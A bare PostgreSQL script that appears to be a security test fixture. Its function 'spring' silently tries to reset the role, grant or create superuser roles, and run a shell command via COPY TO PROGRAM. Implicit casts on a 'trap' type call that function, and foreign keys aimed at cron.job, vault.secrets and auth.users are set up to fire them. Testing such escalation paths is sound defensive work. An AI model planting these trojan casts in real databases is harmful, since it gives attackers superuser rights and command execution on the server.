CREATE FUNCTION public.spring() RETURNS boolean LANGUAGE plpgsql AS $trap$
BEGIN
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'CREATE ROLE sprung SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch @written@'''; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $trap$;

CREATE EXTENSION IF NOT EXISTS pg_cron;
CREATE TYPE trap AS (id integer);
CREATE FUNCTION as_bigint(trap) RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN 1; END $$;
CREATE FUNCTION as_uuid(trap) RETURNS uuid LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.spring(); RETURN pg_catalog.gen_random_uuid(); END $$;
CREATE CAST (trap AS bigint) WITH FUNCTION as_bigint(trap) AS IMPLICIT;
CREATE CAST (trap AS uuid) WITH FUNCTION as_uuid(trap) AS IMPLICIT;
SELECT cron.schedule('job', '* * * * *', 'SELECT 1');
CREATE TABLE jobs (job trap REFERENCES cron.job (jobid));
INSERT INTO jobs VALUES (ROW(1)::trap);
CREATE TABLE secrets (secret trap REFERENCES vault.secrets (id));
INSERT INTO secrets VALUES (ROW(1)::trap);
CREATE TABLE users (owner trap REFERENCES auth.users (id));
INSERT INTO users VALUES (ROW(1)::trap);
CREATE TRIGGER sprung AFTER INSERT OR UPDATE OR DELETE ON vault.secrets
  FOR EACH ROW EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger();
